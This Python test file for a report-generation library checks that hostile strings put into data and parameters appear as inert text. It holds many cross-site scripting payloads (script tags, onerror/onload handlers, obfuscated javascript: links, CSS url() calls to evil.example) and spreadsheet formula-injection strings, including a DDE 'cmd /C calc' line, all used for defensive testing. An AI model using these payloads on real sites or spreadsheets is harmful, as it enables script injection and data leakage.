"""Adversarial markup: text from data or parameters is shown, never run or loaded.

Every case puts a hostile string (HTML, Markdown link/image syntax, maths, a template
expression, a line break that would start a heading ...) in one place the report
layer shows text: a Markdown message, a protected table, the headline card, a
section, the index, the failure page, the parameters block of a report, a figure
label; the page is then parsed with an HTML parser, which must find no element or
attribute made from the payload (no ``<svg>``/``<script>``/``<iframe>``, no event
handler, no ``javascript:`` or external URL), and the payload must be there as
visible text. The page check (`check_self_contained`) is tested both ways: real
external references and active content refused, text that merely mentions them
accepted. A few full runs of ``municipal_quality`` (one ``run-all`` subprocess on a
copy of data/sample whose string columns hold payloads) prove it end to end.
"""
from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

import evaltools
from evaltools.estimate.result import Estimate
from evaltools.report import headline_card, protect
from evaltools.report.i18n import t
from evaltools.report.render import NotSelfContainedError, check_self_contained, render_failure, render_report
from evaltools.report.sections import section
from evaltools.report.site import build_site

SOURCE = Path(evaltools.__file__).resolve().parents[2]

PAYLOADS = {
    "svg_onload": "<svg onload=alert(1)>",
    "script": "<script>alert(1)</script>",
    "img_onerror": '"><img src=x onerror=alert(1)>',
    "md_js_link": "[click](javascript:alert(1))",
    "md_image": "![x](http://evil.example/x.png)",
    "mathtext": "$\\alpha$",
    "template": "{{7*7}}",
    "close_table": "</table>",
    "md_heading": "x\n# PWNED heading",
    "autolink": "http://evil.example/a <https://evil.example/b>",
    "css_url": '<div style="background:url(http://evil.example/c.png)">',
    "iframe": '<iframe src="http://evil.example"></iframe>',
    "entity_js": '<a href="&#106;avascript:alert(1)">x</a>',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "text_src_url": "see url(http://evil.example) and  src=here",
}
IDS = list(PAYLOADS)


# -- what a parsed page holds ---------------------------------------------------------------


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []
        self._skip = 0

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {k: v or "" for k, v in attrs}))
        if tag in ("style", "title"):
            self._skip += 1

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, {k: v or "" for k, v in attrs}))

    def handle_endtag(self, tag):
        if tag in ("style", "title") and self._skip:
            self._skip -= 1

    def handle_data(self, data):
        if not self._skip:
            self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)


def parse(page: str) -> _Page:
    p = _Page()
    p.feed(page)
    p.close()
    return p


def live_markup(page: str) -> list[str]:
    """Elements and attributes in ``page`` that could run or load something, or that only a
    payload would create (``<svg>`` with a handler, a heading saying PWNED, a link to evil)."""
    p = parse(page)
    found = []
    for tag, attrs in p.elements:
        if tag in ("script", "iframe", "object", "embed", "base", "link", "frame"):
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            v = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on"):
                found.append(f"{name} on <{tag}>")
            if v.startswith(("javascript:", "vbscript:")):
                found.append(f"javascript: in {name} of <{tag}>")
            if name in ("src", "href", "xlink:href", "poster", "srcset") and "evil" in v \
                    and not v.startswith("data:"):  # a long base64 image may spell "evil" by chance
                found.append(f"{name}={value} on <{tag}>")
            if name == "style" and "url(" in v:
                found.append(f"style url on <{tag}>")
        if tag == "img" and not attrs.get("src", "").startswith("data:"):
            found.append("<img> not from a data: URI")
    if any("<" in c for c in p.comments):
        found.append("markup in a comment")
    if any(re.sub(r"<[^>]*>", "", text).strip().startswith("PWNED") for text, _ in _headings(page)):
        found.append("a heading made from a line of data")
    return found


def _headings(page: str) -> list[tuple[str, str]]:
    return [(m.group(2), m.group(1)) for m in re.finditer(r"<(h[1-6])\b[^>]*>(.*?)</\1>", page, re.S)]


def visible(page: str) -> str:
    return re.sub(r"\s+", " ", "".join(parse(page).text))


def shown(payload: str) -> str:
    """The payload as it must read on the page (line breaks are shown as spaces)."""
    return re.sub(r"\s+", " ", payload)


def assert_inert(page: str, payload: str) -> None:
    assert live_markup(page) == [], live_markup(page)
    assert shown(payload) in visible(page), f"{payload!r} is not shown as text"
    check_self_contained(page)  # the page check accepts it, and does not crash


# -- Markdown in the notebooks: display(Markdown(t(key, area=name, ...))) -----------------------


@pytest.mark.parametrize("name", IDS)
def test_markdown_message_shows_the_value_as_text(name):
    from nbconvert.filters.markdown_mistune import markdown2html_mistune  # nbconvert's own renderer

    payload = PAYLOADS[name]
    md = t("mq.headline", "en", area=payload, period="2016/17–2019/20", rate=1.25, low=0.5, high=2.0,
           rate_lv=1.1, pupils="[c]", schools=12)
    page = markdown2html_mistune(md)
    assert "<strong>" in page  # the message's own Markdown still works
    assert_inert(page, payload)


# -- report tables: the index, columns, level names, caption and notes -------------------------


@pytest.mark.parametrize("name", IDS)
def test_protected_table_escapes_labels_names_and_caption(name):
    payload = PAYLOADS[name]
    frame = pd.DataFrame({"pupils": [120, 340], f"{payload} (col)": [20, 30]},
                         index=pd.Index([payload, "Other school"], name=f"{payload} (index)"))
    table = protect(frame, counts=["pupils", f"{payload} (col)"], total_row=None, total_col=None,
                    threshold=10, caption=t("mq.table_caption", "en", area=payload, period="2020/21–2023/24"),
                    notes=(f"note: {payload}",), language="en")
    page = table._repr_html_()
    assert "<table" in page and page.count("<table") == page.count("</table>")
    assert_inert(page, payload)
    assert shown(f"{payload} (index)") in visible(page)


# -- CSV and Excel exports: a name that starts like a formula stays text ------------------------------

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak","click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
}


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_exported_tables_keep_formula_like_names_as_text(formula, tmp_path, monkeypatch):
    from openpyxl import load_workbook

    from evaltools.report import publish_table
    from evaltools.report.record import RUN_DIR_ENV, clear

    monkeypatch.setenv(RUN_DIR_ENV, str(tmp_path))
    clear()
    try:
        frame = pd.DataFrame({"pupils": [120, 340]}, index=pd.Index([formula, "Other school"], name="school"))
        csv, xlsx = publish_table(frame, "schools", counts=["pupils"], total_row=None, total_col=None).files
    finally:
        clear()
    cells = [c for row in load_workbook(xlsx).active.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]  # no formula in the workbook
    assert "'" + formula in [c.value for c in cells]
    first = csv.read_text("utf-8-sig").splitlines()[1]
    assert not first.lstrip('"').startswith(("=", "+", "-", "@"))


# -- the headline card and report sections --------------------------------------------------------


@pytest.mark.parametrize("name", IDS)
def test_headline_card_escapes_study_text(name):
    payload = PAYLOADS[name]
    est = Estimate.from_normal("effect", 0.2, 0.05, n={"units": 400})
    card = headline_card(question=payload, outcome=payload, effect=est, unit=payload, method=payload,
                         reasons=[payload], pupils=400, threshold=10, language="en")
    page = card.html()
    assert_inert(page, payload)
    assert card.to_dict()["question"]["en"] == payload  # results.json keeps the text as given


@pytest.mark.parametrize("name", IDS)
def test_section_escapes_paragraphs_and_items(name):
    payload = PAYLOADS[name]
    sec = section("limitations", "en", text=[t("mq.table_caption", "en", area=payload, period="p")],
                  items=[payload])
    page = sec._repr_html_()
    assert_inert(page, payload)


# -- the index: study, params file, error message, headline label -----------------------------------


def _write_run(reports: Path, study: str, run_id: str, manifest: dict, results: dict | None = None) -> Path:
    folder = reports / study / run_id
    folder.mkdir(parents=True)
    (folder / "manifest.json").write_text(json.dumps({"study": study, "run_id": run_id, **manifest}), "utf-8")
    if results is not None:
        (folder / "results.json").write_text(json.dumps(results), "utf-8")
    return folder


@pytest.mark.parametrize("name", IDS)
def test_index_escapes_everything_a_run_wrote(name, tmp_path):
    payload = PAYLOADS[name]
    reports = tmp_path / "reports"
    _write_run(reports, "municipal_quality", "20260101T000000Z-a",
               {"status": "failed", "started_at": "2026-01-01T00:00:00", "params_file": {"path": payload},
                "error": {"kind": payload, "message": f"no such municipality {payload}"}})
    _write_run(reports, "municipal_quality", "20260102T000000Z-b",
               {"status": "succeeded", "started_at": "2026-01-02T00:00:00"},
               {"rate": {"headline": True, "label": payload, "value": payload}})
    page = build_site(reports).read_text("utf-8")
    assert_inert(page, payload)
    assert visible(page).count(shown(payload)) >= 3  # params file, error, headline label


# -- the failure page: an error message can hold anything -------------------------------------------


@pytest.mark.parametrize("name", IDS)
def test_failure_page_escapes_the_error(name, tmp_path):
    payload = PAYLOADS[name]
    manifest = {"study": payload, "run_id": "20260101T000000Z-x", "started_at": "2026-01-01T00:00:00",
                "parameters": {"municipality": payload, "language": "en"}}
    error = {"kind": payload, "message": f"Parameter municipality={payload!r}: no such municipality",
             "cell": {"index": 3, "first_line": payload}}
    out = render_failure(tmp_path / "report.html", manifest, error)
    page = out.read_text("utf-8")
    assert_inert(page, payload)


# -- the parameters block and Markdown outputs of a rendered report (nbconvert, no kernel) ----------


@pytest.fixture(scope="module")
def rendered_report(tmp_path_factory):
    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook, new_output

    folder = tmp_path_factory.mktemp("markup_render")
    cells = []
    for name, payload in PAYLOADS.items():
        md = t("mq.table_caption", "en", area=payload, period=name)
        cells.append(new_code_cell("display(Markdown(...))", outputs=[
            new_output("display_data", data={"text/markdown": str(md), "text/plain": "<Markdown>"})]))
    nb = new_notebook(cells=cells, metadata={"evaltools": {"title": {"en": "Markup test", "lv": "Marķējums"}}})
    path = folder / "notebook.ipynb"
    nbformat.write(nb, path)
    manifest = {"study": "markup", "run_id": "20260101T000000Z-x", "started_at": "2026-01-01T00:00:00",
                "parameters": {"language": "en", **{f"p_{name}": payload for name, payload in PAYLOADS.items()}}}
    out = render_report(path, folder / "report.html", manifest)
    return out.read_text("utf-8")


@pytest.mark.parametrize("name", IDS)
def test_parameters_block_and_markdown_outputs_of_a_report(name, rendered_report):
    page = rendered_report
    payload = PAYLOADS[name]
    assert live_markup(page) == []
    params = page.split('class="ev-params"', 1)[1].split("</details>", 1)[0]
    assert shown(payload) in visible("<div " + params)  # the parameters block
    body = page.split("<main", 1)[1].split("</main>", 1)[0]
    assert shown(payload) in visible("<main" + body)  # the Markdown output


# -- figure labels: matplotlib reads $...$ as mathtext ------------------------------------------------


@pytest.mark.parametrize("label", ["$\\alpha$ school", "$\\frac{$ broken", "cost $5 and $6", "a \\$ b $x$"],
                         ids=["greek", "malformed", "two_dollars", "escaped_dollar"])
def test_figure_labels_are_drawn_as_given(label):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from evaltools.report.escape import mpl_text

    fig, ax = plt.subplots()
    try:
        ax.set_title(mpl_text(label))
        ax.set_yticks([0], [mpl_text(label)])
        ax.plot([0, 1], [0, 1], label=mpl_text(label))
        ax.legend()
        fig.canvas.draw()  # a malformed expression would raise here
        for text in (ax.title, ax.get_yticklabels()[0], ax.get_legend().get_texts()[0]):
            drawn, math = text._preprocess_math(text.get_text())
            assert not math and drawn == label
    finally:
        plt.close(fig)


@pytest.mark.parametrize("label", ["$\\alpha$ school", "$\\frac{$ broken"], ids=["greek", "malformed"])
def test_whole_figure_made_literal_after_plotting_data(label):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    import seaborn as sns

    from evaltools.report.escape import literal_text

    data = pd.DataFrame({"unit": [label, "other"] * 4, "score": range(8)})
    fig, ax = plt.subplots()
    try:
        sns.pointplot(data=data, y="unit", x="score", errorbar=None, ax=ax)  # tick labels from data
        ax.set_title(label)
        ax.annotate(label, (1, 0))
        literal_text(fig)
        fig.canvas.draw()  # mathtext would typeset the first and fail on the second
        texts = [ax.title, *ax.get_yticklabels(), *ax.texts]
        assert [x.get_text() for x in texts if x.get_text() == label] and all(not x.get_parse_math() for x in texts)
    finally:
        plt.close(fig)


# -- the page check: real references refused, mentions accepted ---------------------------------------


REFUSED = {
    "img_http": '<img src="http://evil.example/x.png">',
    "img_relative": '<img src="figure.png">',
    "link_css": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "css_url": "<style>body { background: url('https://evil.example/bg.png') }</style>",
    "css_escaped_url": "<style>body { background: u\\72l(https://evil.example/bg.png) }</style>",
    "css_import": "<style>@import 'x.css';</style>",
    "css_image_set": "<style>p { background-image: image-set(\"https://evil.example/a.png\" 1x) }</style>",
    "style_attr_url": '<p style="background:url(//evil.example/p.png)">x</p>',
    "srcset": '<img src="data:image/png;base64,AA" srcset="https://evil.example/x.png 2x">',
    "iframe": '<iframe src="data:text/html,hi"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "svg_image_href": '<svg><image href="https://evil.example/x.png"/></svg>',
    "svg_use_xlink": '<svg><use xlink:href="https://evil.example/s.svg#a"/></svg>',
    "svg_fill_url": '<svg><rect fill="url(https://evil.example/p.svg#g)"/></svg>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "video_poster": '<video poster="https://evil.example/p.png"></video>',
    "script_inline": "<script>alert(1)</script>",
    "event_handler": '<img src="data:image/png;base64,AA" onerror="alert(1)">',
    "javascript_href": '<a href="java\tscript:alert(1)">x</a>',
    "entity_javascript_href": '<a href="&#106;avascript:alert(1)">x</a>',
    "comment_differential": "<!--><img src=x onerror=alert(1)>-->",
    "svg_style_differential": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "base_href": '<base href="https://evil.example/">',
    "css_src_function": '<p style="background-image: src(https://evil.example/x.png)">x</p>',
    "unquoted_handler_after_slash": "<svg/onload=alert(1)>",
}
ACCEPTED = {
    "text_mentions": "<p>Write url(http://x) or src=here or @import in text: &lt;img src=x&gt;</p>",
    "data_image": '<img src="data:image/png;base64,AAAA" alt="">',
    "external_link": '<a href="https://example.org">a link</a>',
    "svg_fragment": '<svg><rect fill="url(#g)"/><use href="#a"/></svg>',
    "param_value": "<dl><dt>municipality</dt><dd>a url( b  src= c @import d</dd></dl>",
    "base64_like_handler": '<img src="data:image/png;base64,AAAA/onQ=" alt="">',
}


@pytest.mark.parametrize("snippet", REFUSED.values(), ids=REFUSED.keys())
def test_page_check_refuses_external_and_active_content(snippet):
    with pytest.raises(NotSelfContainedError):
        check_self_contained(f"<!DOCTYPE html><html><body>{snippet}</body></html>")


@pytest.mark.parametrize("snippet", ACCEPTED.values(), ids=ACCEPTED.keys())
def test_page_check_accepts_text_that_only_mentions_them(snippet):
    check_self_contained(f"<!DOCTYPE html><html><body>{snippet}</body></html>")


# -- the index and runs that did not finish ----------------------------------------------------------


@pytest.mark.parametrize("status", ["failed", "interrupted"])
def test_index_shows_no_headline_for_a_run_that_did_not_finish(status, tmp_path):
    reports = tmp_path / "reports"
    _write_run(reports, "s", "20260101T000000Z-a", {"status": status, "started_at": "2026-01-01T00:00:00"},
               {"rate": {"headline": True, "label": "Early leaving", "value": 12.345}})
    page = build_site(reports).read_text("utf-8")
    card = re.search(r"<article class=\"ev-card [^\"]*\".*?</article>", page, re.S).group(0)
    assert f"ev-{status}" in card and t(f"index.status.{status}", "lv") in visible(card)
    assert "12.3" not in card and "12,3" not in card and "Early leaving" not in card
    assert t("index.status.succeeded", "lv") not in visible(card)


# -- end to end: run-all on a copy of data/sample with payloads in every string column ---------------


def _payload_data(source: Path, target: Path, every: bool) -> list[str]:
    """Copy data/sample with payload names; with ``every``, every string column of
    municipalities and schools that is not an id holds payloads. Returns the names."""
    shutil.copytree(source, target)
    names = list(PAYLOADS.values())
    m = pd.read_parquet(target / "municipalities.parquet")
    s = pd.read_parquet(target / "schools.parquet")
    m["name"] = [f"{names[i % len(names)]} m{i}" for i in range(len(m))]
    s["name"] = [f"{names[i % len(names)]} s{i}" for i in range(len(s))]
    if every:
        for frame in (m, s):
            for col in frame.columns:
                if frame[col].dtype == object and not col.endswith("_id") and col != "name":
                    frame[col] = [names[i % len(names)] for i in range(len(frame))]
    m.to_parquet(target / "municipalities.parquet", index=False)
    s.to_parquet(target / "schools.parquet", index=False)
    return m["name"].tolist()


@pytest.fixture(scope="module")
def payload_runs(tmp_path_factory):
    root = tmp_path_factory.mktemp("markup_runs")
    (root / "notebooks").mkdir()
    (root / "params").mkdir()
    shutil.copy(SOURCE / "notebooks" / "municipal_quality.ipynb", root / "notebooks")
    munis = _payload_data(SOURCE / "data" / "sample", root / "data" / "names", every=False)
    _payload_data(SOURCE / "data" / "sample", root / "data" / "every", every=True)
    params = {
        "by_school": {"data_dir": "data/names", "municipality": munis[0], "first_year": 2016, "last_year": 2019},
        "all": {"data_dir": "data/names", "municipality": "all", "language": "en"},
        "every_column": {"data_dir": "data/every", "municipality": munis[0]},
        "bad_area": {"data_dir": "data/names", "municipality": "url(http://evil.example) <img src=x onerror=alert(1)>"},
    }
    for name, values in params.items():
        (root / "params" / f"{name}.yaml").write_text(
            json.dumps({"study": "municipal_quality", "description": f"{PAYLOADS['svg_onload']} {name}",
                        "parameters": values}), "utf-8")
    proc = subprocess.run([str(Path(sys.executable).parent / "evaltools"), "--root", str(root), "run-all"],
                          capture_output=True, text=True, timeout=600)
    runs = {}
    for name in params:
        found = sorted((root / "reports" / "municipal_quality").glob(f"*-{name}"))
        runs[name] = found[-1] if found else None
    return proc, runs, root, munis


def test_run_all_ends_cleanly_with_payload_data(payload_runs):
    proc, runs, root, _ = payload_runs
    out = proc.stdout + proc.stderr
    assert "Traceback (most recent call last)" not in out
    assert proc.returncode == 1  # bad_area is refused, every_column fails; nothing crashed
    assert runs["bad_area"] is None  # a municipality that is not in the data: refused before a kernel starts
    assert "parameter 'municipality'" in out and "is not a value of municipalities.name" in out
    assert all((runs[name] / "report.html").exists() for name in ("by_school", "all", "every_column")), runs
    assert json.loads((runs["by_school"] / "manifest.json").read_text())["status"] == "succeeded"
    assert json.loads((runs["all"] / "manifest.json").read_text())["status"] == "succeeded"


def test_report_by_school_shows_payload_names_as_text(payload_runs):
    _, runs, _, munis = payload_runs
    page = (runs["by_school"] / "report.html").read_text("utf-8")
    assert live_markup(page) == []
    text = visible(page)
    assert shown(munis[0]) in text  # the headline sentence, the caption, the total row, the params block
    assert text.count(shown(munis[0])) >= 3


def test_report_for_latvia_shows_every_payload_municipality_as_text(payload_runs):
    _, runs, _, munis = payload_runs
    page = (runs["all"] / "report.html").read_text("utf-8")
    assert live_markup(page) == []
    text = visible(page)
    missing = [m for m in munis if shown(m) not in text]
    assert not missing, missing


def test_every_string_column_payload_gives_an_inert_page(payload_runs):
    _, runs, _, _ = payload_runs
    manifest = json.loads((runs["every_column"] / "manifest.json").read_text())
    assert manifest["status"] == "failed"  # kind, region, language, type hold no valid code
    page = (runs["every_column"] / "report.html").read_text("utf-8")
    assert live_markup(page) == []
    assert "column 'kind'" in visible(page) and "<svg onload=alert(1)>" in visible(page)
    check_self_contained(page)


def test_failure_page_and_index_show_a_hostile_parameter_as_text(payload_runs):
    _, runs, root, munis = payload_runs
    page = (runs["every_column"] / "report.html").read_text("utf-8")  # a failed run of a payload municipality
    assert live_markup(page) == []
    check_self_contained(page)
    index = (root / "reports" / "index.html").read_text("utf-8")  # its card names the area: the payload
    assert live_markup(index) == []
    assert shown(munis[0]) in visible(index)
    assert visible(index).count("ev-") == 0  # class names are attributes, not text


@pytest.mark.parametrize("content", [b'["not", "a", "manifest"]', b'"text"', b"\xff\xfe{}", b"{"],
                         ids=["list", "string", "not_utf8", "broken"])
def test_index_survives_a_manifest_that_is_not_a_run(content, tmp_path):
    reports = tmp_path / "reports"
    folder = reports / "s" / "20260101T000000Z-a"
    folder.mkdir(parents=True)
    (folder / "manifest.json").write_bytes(content)
    (folder / "results.json").write_text("[1, 2]", "utf-8")
    page = build_site(reports).read_text("utf-8")
    assert t("index.status.unreadable", "lv") in visible(page) and live_markup(page) == []


def test_index_without_headlines_drops_every_detail(tmp_path):
    """The runner's fallback when the gate finds an identifier in the index: the index
    is rebuilt with no headline and no error message (the only data-bearing columns)."""
    reports = tmp_path / "reports"
    _write_run(reports, "s", "20260101T000000Z-a", {"status": "succeeded", "started_at": "2026-01-01T00:00:00"},
               {"rate": {"headline": True, "label": "Early leaving", "value": 12.345}})
    _write_run(reports, "s", "20260101T000000Z-b", {"status": "failed", "started_at": "2026-01-01T00:00:00",
                                                    "error": {"kind": "cell error", "message": "Pabc123def"}}, {})
    full = visible(build_site(reports).read_text("utf-8"))
    assert "Early leaving" in full and "Pabc123def" in full
    bare = visible(build_site(reports, headlines=False).read_text("utf-8"))
    assert "Early leaving" not in bare and "Pabc123def" not in bare
    # the runs are still listed with their status
    assert t("index.status.failed", "lv") in bare and t("index.error.cell", "lv") in bare
    assert "ev-succeeded" in build_site(reports, headlines=False).read_text("utf-8")
